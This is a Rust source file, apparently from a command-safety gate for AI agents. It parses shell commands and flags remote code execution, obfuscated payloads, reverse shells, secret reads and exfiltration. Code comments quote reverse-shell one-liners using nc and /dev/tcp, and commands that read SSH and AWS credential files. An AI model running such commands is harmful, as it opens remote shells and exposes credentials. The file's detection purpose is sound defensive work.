//! The analysis engine: walks the parsed script in order, keeps the variables and
//! working directory the script itself sets, expands words, unwraps wrappers
//! (`sudo`, `env`, `bash -c`, `xargs`, `find -exec`, `ssh`, ...) and hands each real
//! command to the rules. Pipelines are followed stage to stage so that what flows into
//! a shell or a network tool (a download, decoded text, a secret) is known.

use crate::ShellContext;
use crate::cmd::{Cmd, Out, short};
use crate::model::{RawWord, Redirect, Script, SimpleCmd, Stage};
use crate::paths;
use crate::rules::{
    self, dynamic_command_name::DynamicCommandName, obfuscated_execution::ObfuscatedExecution,
    remote_code_execution::RemoteCodeExecution, secret_exfiltration::SecretExfiltration,
    too_deeply_nested::TooDeeplyNested, unparsable_command::UnparsableCommand,
};
use crate::words::{self, Expander, Output, Word, taint};
use crate::{PackageInstall, interp, packages, produce, unwrap};
use std::collections::HashMap;
use std::path::PathBuf;
use vibeguard_core::Tier;

/// Wrapping deeper than this is not followed; the command goes to a person.
pub const MAX_DEPTH: usize = 8;
/// Upper bound on commands analysed for one input (loops, substitutions, re-parses).
const MAX_COMMANDS: usize = 20_000;

/// Largest project file (a script, a package.json) read to see what a command runs.
pub const MAX_PROJECT_FILE: u64 = 256 * 1024;

/// A shell script by its `#!` line (sh, bash, zsh, dash, ksh, directly or through env),
/// or, without one, by its extension.
fn is_shell_script(path: &std::path::Path, content: &str) -> bool {
    const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
    if let Some(line) = content.lines().next().and_then(|l| l.strip_prefix("#!")) {
        let mut words = line.split_whitespace();
        let mut program = words.next().map(unwrap::command_name).unwrap_or_default();
        if program == "env" {
            program = words
                .find(|w| !w.starts_with('-'))
                .unwrap_or_default()
                .to_string();
        }
        return SHELLS.contains(&program.as_str());
    }
    path.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| SHELLS.contains(&e))
}

pub struct Engine<'a> {
    pub cx: &'a ShellContext,
    pub cwd: PathBuf,
    vars: HashMap<String, Word>,
    aliases: HashMap<String, String>,
    /// Shell functions defined by this command line, re-analysed with their arguments.
    functions: HashMap<String, Script>,
    /// Files this command line downloads (`curl -o x.sh`), to catch `bash x.sh` later.
    pub downloaded: Vec<PathBuf>,
    /// Files this command line writes with known content (`cat > x.sh <<EOF`), so a
    /// later `bash x.sh` is analysed with that content.
    written: HashMap<PathBuf, String>,
    /// Targets of the write redirections of the command being analysed.
    pending_writes: Vec<PathBuf>,
    /// Files this command line filled with secrets or the environment (`env > f`).
    secret_files: Vec<PathBuf>,
    /// Symlinks created by this command line, as (link, target).
    links: Vec<(PathBuf, PathBuf)>,
    /// `$0 $1 ...` inside `sh -c 'TEXT' arg0 arg1`.
    positionals: Option<Vec<Word>>,
    pub out: Out,
    pub packages: Vec<PackageInstall>,
    pub parse_error: Option<String>,
    commands: usize,
    depth: usize,
    too_deep: bool,
    /// Inside a command substitution: output goes into a word, not to the agent.
    capturing: usize,
    /// The last credential a command printed (`gcloud auth print-access-token`).
    printed_credential: Option<&'static str>,
    /// The command line loaded an env file (`source .env`, `export $(cat .env)`):
    /// variables it did not set may hold the file's secrets.
    env_file_loaded: bool,
    /// A redirection of the current command points at `/dev/tcp/HOST/...` off this machine.
    socket_redirect: Option<String>,
    /// What the stages of the current pipeline are: a network client, a shell.
    pipe_net: bool,
    pipe_shell: bool,
}

impl<'a> Engine<'a> {
    pub fn new(cx: &'a ShellContext) -> Self {
        Engine {
            cx,
            cwd: cx.cwd.clone(),
            vars: HashMap::new(),
            aliases: HashMap::new(),
            functions: HashMap::new(),
            downloaded: Vec::new(),
            written: HashMap::new(),
            pending_writes: Vec::new(),
            positionals: None,
            links: Vec::new(),
            secret_files: Vec::new(),
            out: Out::default(),
            packages: Vec::new(),
            parse_error: None,
            commands: 0,
            depth: 0,
            too_deep: false,
            capturing: 0,
            printed_credential: None,
            env_file_loaded: false,
            socket_redirect: None,
            pipe_net: false,
            pipe_shell: false,
        }
    }

    /// Parse and analyse shell text one level deeper than the caller; returns what the
    /// text prints (for substitutions).
    pub fn analyze_text(&mut self, text: &str, stdin: &Output) -> Output {
        if !self.enter() {
            return unknown();
        }
        let parsed = crate::parse::parse(text);
        if let Some(err) = parsed.error {
            self.unparsable(text, &err);
        }
        let o = self.script(&parsed.script, stdin);
        self.depth -= 1;
        o
    }

    fn enter(&mut self) -> bool {
        if self.depth >= MAX_DEPTH {
            if !self.too_deep {
                self.too_deep = true;
                self.out.add(
                    TooDeeplyNested::ID,
                    Tier::Medium,
                    format!("the command wraps commands more than {MAX_DEPTH} levels deep (shells inside shells, substitutions inside substitutions); the innermost command was not analysed"),
                    "run the inner command directly so it can be checked",
                );
            }
            return false;
        }
        self.depth += 1;
        true
    }

    pub fn report_unparsable(&mut self, text: &str, err: &str) {
        self.unparsable(text, err);
    }

    fn unparsable(&mut self, text: &str, err: &str) {
        if self.parse_error.is_none() {
            self.parse_error = Some(err.to_string());
        }
        let tier = if crate::dangerous_words(text) {
            Tier::High
        } else {
            Tier::Medium
        };
        self.out.add(
            UnparsableCommand::ID,
            tier,
            format!("the command could not be parsed as shell ({}); the gate cannot tell what it would run", short(err)),
            "fix the quoting or split the command into simpler steps",
        );
    }

    pub fn script(&mut self, s: &Script, stdin: &Output) -> Output {
        let mut last = Output::default();
        let mut acc = 0u16;
        for p in &s.pipelines {
            if self.commands > MAX_COMMANDS {
                break;
            }
            let mut input = stdin.clone();
            let saved = (self.pipe_net, self.pipe_shell);
            (self.pipe_net, self.pipe_shell) = (false, false);
            for stage in &p.stages {
                input = self.stage(stage, &input);
            }
            // `cat /tmp/f | sh -i 2>&1 | nc HOST 4444 > /tmp/f`
            if p.stages.len() > 1 && self.pipe_net && self.pipe_shell {
                rules::reverse_shell::report(
                    &mut self.out,
                    "a pipeline joining a shell and a network client",
                );
            }
            (self.pipe_net, self.pipe_shell) = saved;
            if input.taint & taint::ENV_VAR != 0
                && input.taint & taint::CRED_PRINT == 0
                && self.capturing == 0
            {
                rules::print_secret_variable::report(&mut self.out, "the command");
            }
            if input.taint & taint::CRED_PRINT != 0 && self.capturing == 0 {
                let what = self.printed_credential.unwrap_or("a credential");
                self.out.add(
                    rules::read_secret_file::ReadSecretFile::ID,
                    Tier::Medium,
                    format!("the command prints {what} into the agent's context"),
                    "let the tool that needs the credential obtain it itself; do not print it",
                );
            }
            acc |= input.taint;
            last = input;
        }
        if s.pipelines.len() > 1 {
            last.text = None;
        }
        last.taint |= acc;
        last
    }

    fn stage(&mut self, st: &Stage, stdin: &Output) -> Output {
        match st {
            Stage::Simple(c) => self.simple(c, stdin),
            Stage::Group {
                body,
                redirects,
                loop_var,
            } => {
                let stdin = self.redirects(redirects, stdin.clone());
                match loop_var {
                    Some((var, values)) => {
                        let mut vals: Vec<Word> = Vec::new();
                        for v in values.iter().take(16) {
                            vals.extend(self.expand_word(v));
                        }
                        if vals.is_empty() {
                            vals.push(Word {
                                text: words::DYNAMIC.to_string(),
                                taint: taint::DYNAMIC,
                            });
                        }
                        let mut o = Output::default();
                        for v in vals.into_iter().take(8) {
                            if self.commands > MAX_COMMANDS {
                                break;
                            }
                            self.vars.insert(var.clone(), v);
                            o = self.script(body, &stdin);
                        }
                        o
                    }
                    None => self.script(body, &stdin),
                }
            }
            Stage::Function { name, body } => {
                if rules::fork_bomb::is_fork_bomb(name, body) {
                    rules::fork_bomb::report(
                        &mut self.out,
                        &format!("the function {name}, which starts two copies of itself,"),
                    );
                }
                self.script(body, &Output::default());
                if self.functions.len() < 64 {
                    self.functions.insert(name.clone(), body.clone());
                }
                Output::default()
            }
        }
    }

    /// Apply redirections: returns the stdin the command sees; reports writes and reads.
    fn redirects(&mut self, rs: &[Redirect], mut stdin: Output) -> Output {
        for r in rs {
            match r {
                Redirect::Read(w) => {
                    let ws = self.expand_word(w);
                    if let Some(w) = ws.first() {
                        self.note_socket(&w.text);
                        if w.taint & (taint::DOWNLOAD | taint::DECODED) != 0 {
                            stdin = Output {
                                text: None,
                                taint: w.taint,
                            };
                            continue;
                        }
                        let res = paths::resolve(
                            &w.text,
                            &self.cwd,
                            &self.cx.home,
                            &self.cx.project_root,
                        );
                        let mut t = 0;
                        if let Some(kind) = paths::secret_kind(&res.path, &self.cx.home) {
                            rules::read_secret_file::report(&mut self.out, &res.path, kind);
                            t = taint::SECRET;
                        }
                        if self.downloaded.contains(&res.path) {
                            t |= taint::DOWNLOAD;
                        }
                        if let Some(content) = self.written.get(&res.path) {
                            stdin = Output {
                                text: Some(content.clone()),
                                taint: t,
                            };
                            continue;
                        }
                        stdin = Output {
                            text: None,
                            taint: t | taint::DYNAMIC,
                        };
                    }
                }
                Redirect::Write { target, append } => {
                    let ws = self.expand_word(target);
                    if let Some(w) = ws.first() {
                        self.note_socket(&w.text);
                        crate::effects::check_redirect_write(self, &w.text, *append);
                        let r = paths::resolve(
                            &w.text,
                            &self.cwd,
                            &self.cx.home,
                            &self.cx.project_root,
                        );
                        self.pending_writes.push(r.path);
                    }
                }
                Redirect::HereDoc { body, expand } => {
                    let w = if *expand {
                        let mut ex = Ex { e: self };
                        words::expand_heredoc(body, &mut ex, 0)
                    } else {
                        Word::lit(body)
                    };
                    stdin = Output {
                        text: Some(w.text),
                        taint: w.taint,
                    };
                }
                Redirect::HereString(w) => {
                    let w = self.expand_joined(w);
                    stdin = Output {
                        text: Some(format!("{}\n", w.text)),
                        taint: w.taint,
                    };
                }
                Redirect::Dup => {}
            }
        }
        stdin
    }

    /// Remember a redirection to `/dev/tcp/HOST/PORT` on another machine.
    fn note_socket(&mut self, text: &str) {
        if let Some(host) = rules::reverse_shell::dev_socket_host(text)
            && !rules::reverse_shell::is_loopback_host(host)
        {
            self.socket_redirect = Some(host.to_string());
        }
    }

    pub fn expand_word(&mut self, w: &RawWord) -> Vec<Word> {
        match w {
            RawWord::Text(t) => {
                let mut ex = Ex { e: self };
                words::expand(t, &mut ex, 0)
            }
            RawWord::ProcSubst(read, script) => {
                let o = if self.enter() {
                    self.capturing += 1;
                    let o = self.script(script, &unknown());
                    self.capturing -= 1;
                    self.depth -= 1;
                    o
                } else {
                    unknown()
                };
                let t = if *read { o.taint } else { 0 };
                vec![Word {
                    text: "/dev/fd/63".into(),
                    taint: t | taint::DYNAMIC,
                }]
            }
        }
    }

    fn expand_joined(&mut self, w: &RawWord) -> Word {
        match w {
            RawWord::Text(t) => {
                let mut ex = Ex { e: self };
                words::expand_joined(t, &mut ex, 0)
            }
            other => self
                .expand_word(other)
                .into_iter()
                .next()
                .unwrap_or_default(),
        }
    }

    fn simple(&mut self, c: &SimpleCmd, stdin: &Output) -> Output {
        self.commands += 1;
        if self.commands > MAX_COMMANDS {
            if self.commands == MAX_COMMANDS + 1 {
                self.out.add(
                    UnparsableCommand::ID,
                    Tier::Medium,
                    "the command expands to more commands than the gate analyses",
                    "split it into smaller commands",
                );
            }
            return unknown();
        }
        let mut env = Vec::new();
        for a in &c.assigns {
            let mut v = self.expand_joined(&a.value);
            if a.append
                && let Some(old) = self.vars.get(&a.name)
            {
                v.text = format!("{}{}", old.text, v.text);
                v.taint |= old.taint;
            }
            env.push((a.name.clone(), v));
        }
        let mut argv = Vec::new();
        for w in &c.words {
            argv.extend(self.expand_word(w));
        }
        self.pending_writes.clear();
        self.socket_redirect = None;
        let stdin = self.redirects(&c.redirects, stdin.clone());
        let writes = std::mem::take(&mut self.pending_writes);
        for (name, value) in &env {
            rules::tls_verification_disabled::check_env(name, &value.text, false, &mut self.out);
            rules::history_tampering::check_assignment(name, &value.text, &mut self.out);
            rules::ssh_host_key_check_disabled::check_assignment(name, &value.text, &mut self.out);
            rules::insecure_package_source::check_env(name, &value.text, &mut self.out);
        }
        // `bash -i >& /dev/tcp/HOST/4444 0>&1`, `exec 5<>/dev/tcp/HOST/80`
        if let Some(host) = self.socket_redirect.take() {
            let prog = argv
                .first()
                .map(|w| unwrap::command_name(&w.text))
                .unwrap_or_default();
            if prog == "exec" || unwrap::is_shell(&prog) || unwrap::interpreter(&prog).is_some() {
                rules::reverse_shell::report(
                    &mut self.out,
                    &format!("{prog} with its input or output on a socket to {host}"),
                );
            }
        }
        if argv.is_empty() {
            for (n, v) in env {
                self.vars.insert(n, v);
            }
            return Output::default();
        }
        let out = self.run(argv, &env, &stdin);
        if let Some(text) = &out.text {
            self.remember_writes(&writes, text);
            for w in &writes {
                rules::insecure_package_source::check_config_text(w, text, &mut self.out);
            }
        }
        for w in &writes {
            self.check_git_hook(w);
        }
        // `curl URL > i.sh`: the file now holds downloaded code, so `./i.sh`, `sh i.sh`
        // or `. i.sh` later runs it
        if out.taint & taint::DOWNLOAD != 0 && self.downloaded.len() < 64 {
            self.downloaded.extend(writes.iter().cloned());
        }
        if out.taint & (taint::SECRET | taint::ENV_DUMP) != 0 && self.secret_files.len() < 64 {
            self.secret_files.extend(writes.iter().cloned());
        }
        if c.redirects
            .iter()
            .any(|r| matches!(r, Redirect::Write { .. }))
        {
            return Output::default();
        }
        out
    }

    /// Run an expanded argv: unwrap wrappers, recurse into shells, then check.
    pub fn run(&mut self, argv: Vec<Word>, env: &[(String, Word)], stdin: &Output) -> Output {
        if argv.is_empty() {
            return Output::default();
        }
        let first = &argv[0];
        if first.has(taint::DYNAMIC)
            || first.has(taint::UNSET)
            || first.text.contains([words::DYNAMIC, words::UNSET])
        {
            let rest: Vec<String> = argv[1..].iter().map(|w| w.clean()).collect();
            let tier = if first.has(taint::DOWNLOAD) {
                Tier::High
            } else {
                Tier::Medium
            };
            if first.has(taint::DOWNLOAD) {
                self.out.add(
                    RemoteCodeExecution::ID,
                    Tier::High,
                    "the command name comes from downloaded content",
                    "download, review, then run a known command",
                );
            }
            self.out.add(
                DynamicCommandName::ID,
                tier,
                format!("the program to run is computed at run time ({} {}), so the gate cannot tell what it is", short(&first.text), short(&rest.join(" "))),
                "write the command name literally",
            );
            return unknown();
        }
        if first.has(taint::DECODED) {
            self.code_taint(taint::DECODED, "the command");
        }
        if first.text.contains('/') {
            let res = paths::resolve(&first.text, &self.cwd, &self.cx.home, &self.cx.project_root);
            if self.downloaded.contains(&res.path) {
                self.code_taint(taint::DOWNLOAD, &first.text);
            }
            if self.run_written(&res.path, interp::Lang::Shell) {
                return unknown();
            }
        }
        let name = unwrap::command_name(&first.text);
        if let Some(body) = self.functions.get(&name).cloned() {
            if argv.len() > 1 && self.enter() {
                let saved = self.positionals.replace(argv.clone());
                let o = self.script(&body, stdin);
                self.positionals = saved;
                self.depth -= 1;
                return o;
            }
            return unknown();
        }
        if let Some(body) = self.aliases.get(&name).cloned() {
            if self.enter() {
                let text = format!(
                    "{} {}",
                    body,
                    argv[1..]
                        .iter()
                        .map(|w| shell_quote(&w.text))
                        .collect::<Vec<_>>()
                        .join(" ")
                );
                let o = self.analyze_text_same_depth(&text, stdin);
                self.depth -= 1;
                return o;
            }
            return unknown();
        }
        {
            let cwd = self.cwd.clone();
            let c = Cmd {
                name: &name,
                args: &argv[1..],
                env,
                cwd: &cwd,
                cx: self.cx,
                stdin,
                links: &[],
            };
            rules::check_before_unwrap(&c, &mut self.out);
        }
        match unwrap::unwrap(&name, &argv[1..], stdin, self) {
            unwrap::Unwrapped::Inner {
                argv: inner,
                env: extra_env,
            } => {
                if !self.enter() {
                    return unknown();
                }
                let mut all_env = env.to_vec();
                all_env.extend(extra_env);
                for (n, v) in &all_env {
                    rules::tls_verification_disabled::check_env(n, &v.text, false, &mut self.out);
                }
                let o = self.run(inner, &all_env, stdin);
                self.depth -= 1;
                o
            }
            unwrap::Unwrapped::Text {
                text,
                taint: t,
                args,
            } => {
                // a package manager running project scripts is still checked itself
                // (`npm ci --registry http://...`, packages it installs)
                if matches!(name.as_str(), "npm" | "yarn" | "pnpm" | "bun") {
                    self.leaf(&name, &argv[1..], env, stdin);
                }
                self.code_taint(t, &name);
                if t & (taint::DOWNLOAD | taint::DECODED) != 0 && text.contains(words::DYNAMIC) {
                    return unknown();
                }
                // `eval "$(ssh-agent -s)"`: the substitution itself was analysed; its
                // output is unknown and not attacker-shaped.
                if text.trim().chars().all(|c| c == words::DYNAMIC) {
                    return unknown();
                }
                if args.is_empty() {
                    return self.analyze_text(&text, stdin);
                }
                let saved = self.positionals.replace(args);
                let o = self.analyze_text(&text, stdin);
                self.positionals = saved;
                o
            }
            unwrap::Unwrapped::Stdin { lang } => {
                if lang == interp::Lang::Shell {
                    self.pipe_shell = true;
                }
                self.consume_stdin(&name, lang, stdin);
                unknown()
            }
            unwrap::Unwrapped::Code { lang, code } => {
                self.code_taint(code.taint, &name);
                // `perl -pi -e ... FILE` edits files in place
                let cwd = self.cwd.clone();
                let cx = self.cx;
                let c = Cmd {
                    name: &name,
                    args: &argv[1..],
                    env,
                    cwd: &cwd,
                    cx,
                    stdin,
                    links: &[],
                };
                crate::effects::check_writes(&c, &mut self.out);
                // `awk 1 ~/.ssh/id_rsa`: the operands after the code are files it reads
                let code_at: Vec<usize> = argv[1..]
                    .iter()
                    .position(|w| *w == code)
                    .into_iter()
                    .collect();
                rules::read_secret_file::check_operands(&c, &code_at, &mut self.out);
                if code.taint & (taint::DOWNLOAD | taint::DECODED) == 0 {
                    let prelude = interp::module_prelude(lang, &argv[1..]);
                    interp::check(self, lang, &(prelude + &code.text));
                }
                unknown()
            }
            unwrap::Unwrapped::Script { word, lang } => {
                let res =
                    paths::resolve(&word.text, &self.cwd, &self.cx.home, &self.cx.project_root);
                if matches!(name.as_str(), "source" | ".")
                    && paths::secret_kind(&res.path, &self.cx.home).is_some()
                {
                    self.env_file_loaded = true;
                }
                let mut t = word.taint;
                if self.downloaded.contains(&res.path) {
                    t |= taint::DOWNLOAD;
                }
                self.code_taint(t, &name);
                // `python3 dump.py ~/.aws/credentials`: the script's operands are read
                if let Some(at) = argv[1..].iter().position(|w| w.text == word.text) {
                    let cwd = self.cwd.clone();
                    let cx = self.cx;
                    let skip: Vec<usize> = (0..=at).collect();
                    let c = Cmd {
                        name: &name,
                        args: &argv[1..],
                        env,
                        cwd: &cwd,
                        cx,
                        stdin,
                        links: &[],
                    };
                    rules::read_secret_file::check_operands(&c, &skip, &mut self.out);
                    rules::fetch_cloud_metadata::check(&c, &mut self.out);
                }
                self.run_written(&res.path, lang);
                unknown()
            }
            unwrap::Unwrapped::NoExec => Output::default(),
            unwrap::Unwrapped::NotWrapper => self.leaf(&name, &argv[1..], env, stdin),
        }
    }

    /// A git hook in the project written or made executable: judged by what it runs.
    pub fn check_git_hook(&mut self, path: &std::path::Path) {
        let hooks = self.cx.project_root.join(".git/hooks");
        if !path.starts_with(&hooks) || path == hooks {
            return;
        }
        let Some(content) = self.project_file(path) else {
            return;
        };
        if let Some(why) = crate::git_hook_risk(&content, self.cx) {
            self.out.add(
                rules::persistence_or_system_write::PersistenceOrSystemWrite::ID,
                Tier::High,
                format!(
                    "the git hook {} {why}; it would run on every commit or checkout",
                    path.display()
                ),
                "keep git hooks to local checks (formatters, linters, tests)",
            );
        }
    }

    /// Record content written to files by the current command (`> f`, `tee f`).
    pub fn remember_writes(&mut self, paths: &[PathBuf], text: &str) {
        for p in paths.iter().take(8) {
            if self.written.len() < 64 && text.len() <= 256 * 1024 {
                self.written.entry(p.clone()).or_default().push_str(text);
            }
        }
    }

    /// The content a command would read from `path`: what this command line wrote to
    /// it, else the file on disk when it lies inside the project, is a regular file of
    /// at most [`MAX_PROJECT_FILE`] bytes and is UTF-8.
    pub fn project_file(&self, path: &std::path::Path) -> Option<String> {
        if let Some(content) = self.written.get(path) {
            return Some(content.clone());
        }
        self.file_on_disk(path)
    }

    fn file_on_disk(&self, path: &std::path::Path) -> Option<String> {
        if !path.starts_with(&self.cx.project_root) {
            return None;
        }
        // metadata first: a FIFO or device must not be opened (it could block).
        let meta = std::fs::metadata(path).ok()?;
        if !meta.is_file() || meta.len() > MAX_PROJECT_FILE {
            return None;
        }
        String::from_utf8(std::fs::read(path).ok()?).ok()
    }

    /// A script is run: analyse its content when it is known. That is what this command
    /// line wrote to it (any language), or a shell script on disk in the project, so
    /// `bash deploy.sh` in one tool call is judged by what an earlier Write put there.
    /// Other files on disk (`./manage.py`, `node_modules/.bin/rimraf`) are left to the
    /// usual checks of the command and its arguments.
    fn run_written(&mut self, path: &std::path::Path, lang: interp::Lang) -> bool {
        let content = match self.written.get(path) {
            Some(c) => c.clone(),
            None if lang == interp::Lang::Shell => match self.file_on_disk(path) {
                Some(c) if is_shell_script(path, &c) => c,
                _ => return false,
            },
            None => return false,
        };
        if self.enter() {
            match lang {
                interp::Lang::Shell => {
                    self.script_text(&content);
                }
                other => interp::check(self, other, &content),
            }
            self.depth -= 1;
        }
        true
    }

    fn script_text(&mut self, text: &str) {
        let parsed = crate::parse::parse(text);
        if let Some(err) = parsed.error {
            self.unparsable(text, &err);
        }
        self.script(&parsed.script, &Output::default());
    }

    /// Run an argv one level deeper (for `find -exec`).
    pub fn run_nested(&mut self, argv: Vec<Word>) {
        if self.enter() {
            self.run(argv, &[], &Output::default());
            self.depth -= 1;
        }
    }

    fn analyze_text_same_depth(&mut self, text: &str, stdin: &Output) -> Output {
        let parsed = crate::parse::parse(text);
        if let Some(err) = parsed.error {
            self.unparsable(text, &err);
        }
        self.script(&parsed.script, stdin)
    }

    /// Report code that came from a download or a decoder.
    fn code_taint(&mut self, t: u16, via: &str) {
        if t & taint::DOWNLOAD != 0 {
            self.out.add(
                RemoteCodeExecution::ID,
                Tier::High,
                format!("{via} runs code downloaded from the network without anyone reviewing it"),
                "download the script to a file, read it, then run it (or install the tool from a package manager)",
            );
        }
        if t & taint::DECODED != 0 {
            self.out.add(
                ObfuscatedExecution::ID,
                Tier::High,
                format!("{via} runs text that is decoded or generated at run time (base64, hex, escapes, rev, tr), which hides what it does"),
                "run the plain command instead of an encoded one",
            );
        }
    }

    /// A shell or interpreter reading its program from stdin.
    fn consume_stdin(&mut self, via: &str, lang: interp::Lang, stdin: &Output) {
        self.code_taint(stdin.taint, via);
        let generated = stdin.taint & (taint::DOWNLOAD | taint::DECODED) != 0;
        let opaque = stdin
            .text
            .as_deref()
            .is_none_or(|t| t.contains(words::DYNAMIC));
        if generated && opaque {
            return;
        }
        if stdin
            .text
            .as_deref()
            .is_some_and(|t| t.trim().chars().all(|c| c == words::DYNAMIC))
        {
            return;
        }
        if let Some(text) = &stdin.text {
            match lang {
                interp::Lang::Shell => {
                    self.analyze_text(text, &Output::default());
                }
                other => interp::check(self, other, text),
            }
        }
    }

    /// A command that wraps nothing: record effects and run the rules.
    fn leaf(
        &mut self,
        name: &str,
        args: &[Word],
        env: &[(String, Word)],
        stdin: &Output,
    ) -> Output {
        match name {
            "cd" | "pushd" => {
                if let Some(w) = args.iter().find(|w| !w.text.starts_with('-')) {
                    if !w.text.contains([words::DYNAMIC, words::UNSET]) {
                        let r = paths::resolve(
                            &w.text,
                            &self.cwd,
                            &self.cx.home,
                            &self.cx.project_root,
                        );
                        self.cwd = r.path;
                    }
                } else if args.is_empty() {
                    self.cwd = self.cx.home.clone();
                }
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                for w in args {
                    if let Some((n, v)) = w.text.split_once('=') {
                        let (n, append) = match n.strip_suffix('+') {
                            Some(n) => (n, true),
                            None => (n, false),
                        };
                        if !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                        {
                            rules::tls_verification_disabled::check_env(n, v, true, &mut self.out);
                            rules::ssh_host_key_check_disabled::check_assignment(
                                n,
                                v,
                                &mut self.out,
                            );
                            rules::insecure_package_source::check_env(n, v, &mut self.out);
                            let mut val = Word {
                                text: v.to_string(),
                                taint: w.taint,
                            };
                            if append && let Some(old) = self.vars.get(n) {
                                val.text = format!("{}{}", old.text, val.text);
                            }
                            self.vars.insert(n.to_string(), val);
                        }
                    }
                }
            }
            "alias" => {
                for w in args {
                    if let Some((n, v)) = w.text.split_once('=') {
                        self.aliases.insert(n.to_string(), v.to_string());
                        self.analyze_text(v, &Output::default());
                    }
                }
            }
            "trap" => {
                if let Some(w) = args.first() {
                    let t = w.text.clone();
                    self.analyze_text(&t, &Output::default());
                }
            }
            "unset" => {
                for w in args {
                    self.vars.remove(&w.text);
                }
            }
            _ => {}
        }
        if name == "export" && args.iter().any(|w| w.taint & taint::SECRET != 0) {
            self.env_file_loaded = true;
        }
        if let Some(what) = crate::credentials::printed_by(name, args) {
            self.printed_credential = Some(what);
        }
        if rules::reverse_shell::is_network_client(name, args) {
            self.pipe_net = true;
        }
        if unwrap::is_shell(name) {
            self.pipe_shell = true;
        }
        if matches!(name, "chmod" | "ln" | "cp" | "mv" | "install") {
            for w in args.iter().filter(|w| !w.text.starts_with('-')) {
                let p =
                    paths::resolve(&w.text, &self.cwd, &self.cx.home, &self.cx.project_root).path;
                self.check_git_hook(&p);
            }
        }
        if let Some(p) = packages::parse(name, args)
            && !p.packages.is_empty()
        {
            self.packages.push(p);
        }
        let cwd = self.cwd.clone();
        let cx = self.cx;
        let links = self.links.clone();
        let cmd = Cmd {
            name,
            args,
            env,
            cwd: &cwd,
            cx,
            stdin,
            links: &links,
        };
        rules::check_command(&cmd, &mut self.out);
        rules::package_install_from_url::check(&cmd, &mut self.out);
        if let Some(body) = rules::git_alias_exec::check(&cmd, &mut self.out) {
            self.analyze_text(&body, &Output::default());
        }
        crate::effects::record_downloads(self, name, args);
        if name == "ln"
            && args
                .iter()
                .any(|a| crate::cmd::flag_matches(&a.text, Some('s'), &["--symbolic"]))
        {
            let pos: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            if pos.len() == 2 && self.links.len() < 32 {
                let target = paths::resolve(&pos[0].text, &cwd, &cx.home, &cx.project_root).path;
                let link = paths::resolve(&pos[1].text, &cwd, &cx.home, &cx.project_root).path;
                self.links.push((link, target));
            }
        }
        if name == "tee" {
            let files: Vec<PathBuf> = args
                .iter()
                .filter(|w| !w.text.starts_with('-'))
                .map(|w| {
                    paths::resolve(&w.text, &self.cwd, &self.cx.home, &self.cx.project_root).path
                })
                .collect();
            if stdin.taint & taint::DOWNLOAD != 0 && self.downloaded.len() < 64 {
                self.downloaded.extend(files.iter().cloned());
            }
            if let Some(text) = stdin.text.clone() {
                self.remember_writes(&files, &text);
            }
        }
        if !self.secret_files.is_empty() && produce::is_network_sender(name, args) {
            let sent = args.iter().any(|w| {
                let t = w.text.rsplit('@').next().unwrap_or(&w.text);
                let t = t.rsplit('=').next().unwrap_or(t);
                let r = paths::resolve(t, &self.cwd, &self.cx.home, &self.cx.project_root);
                self.secret_files.contains(&r.path)
            });
            if sent {
                self.out.add(
                    SecretExfiltration::ID,
                    Tier::High,
                    format!(
                        "{name} uploads a file this command filled with secrets or the environment"
                    ),
                    "never send credentials off the machine",
                );
            }
        }
        if stdin.taint & (taint::SECRET | taint::ENV_DUMP) != 0
            && produce::is_network_sender(name, args)
            && rules::secret_exfiltration::goes_out(name, args, stdin.taint)
        {
            self.out.add(
                SecretExfiltration::ID,
                Tier::High,
                format!("secrets (a credential file or the environment) are piped into {name}, which sends them over the network"),
                "never send credentials off the machine; if a service needs a key, configure it there",
            );
        }
        produce::output(name, args, stdin, &cwd, cx)
    }
}

fn unknown() -> Output {
    Output {
        text: None,
        taint: taint::DYNAMIC,
    }
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// The [`Expander`] view of the engine.
struct Ex<'e, 'a> {
    e: &'e mut Engine<'a>,
}

impl Expander for Ex<'_, '_> {
    fn var(&self, name: &str) -> Option<Word> {
        if let Some(v) = self.e.vars.get(name) {
            return Some(v.clone());
        }
        let lit = |s: String| Some(Word { text: s, taint: 0 });
        match name {
            "HOME" => lit(self.e.cx.home.to_string_lossy().into_owned()),
            "PWD" => lit(self.e.cwd.to_string_lossy().into_owned()),
            "IFS" => lit(" ".into()),
            "TMPDIR" | "TMP" | "TEMP" => lit("/tmp".into()),
            "USER" | "LOGNAME" | "SHELL" | "PATH" | "LANG" | "TERM" | "HOSTNAME" | "EDITOR"
            | "OLDPWD" | "RANDOM" | "UID" | "EUID" | "PPID" | "SECONDS" | "LINENO" | "BASH"
            | "BASH_SOURCE" | "FUNCNAME" | "VIRTUAL_ENV" | "CI" | "GITHUB_WORKSPACE" => {
                Some(Word {
                    text: words::DYNAMIC.to_string(),
                    taint: taint::DYNAMIC,
                })
            }
            _ => None,
        }
    }
    fn unset_taint(&self, name: &str) -> u16 {
        // after `source .env`, `$API_KEY` may be one of its secrets; a name like
        // GITHUB_TOKEN says what it holds wherever it comes from
        if self.e.env_file_loaded {
            taint::SECRET | taint::ENV_VAR
        } else if rules::print_secret_variable::secret_name(name) {
            taint::SECRET | taint::ENV_VAR | taint::NAMED_SECRET
        } else {
            0
        }
    }
    fn positional(&self, n: usize) -> Option<Word> {
        self.e.positionals.as_ref()?.get(n).cloned()
    }
    fn all_positionals(&self) -> Option<Word> {
        let p = self.e.positionals.as_ref()?;
        let rest = p.get(1..).unwrap_or(&[]);
        Some(Word {
            text: rest
                .iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" "),
            taint: rest.iter().fold(0, |t, w| t | w.taint),
        })
    }
    fn home(&self) -> String {
        self.e.cx.home.to_string_lossy().into_owned()
    }
    fn cwd(&self) -> String {
        self.e.cwd.to_string_lossy().into_owned()
    }
    fn substitute(&mut self, script: &str) -> Output {
        self.e.capturing += 1;
        let o = self.e.analyze_text(script, &Output::default());
        self.e.capturing -= 1;
        o
    }
}
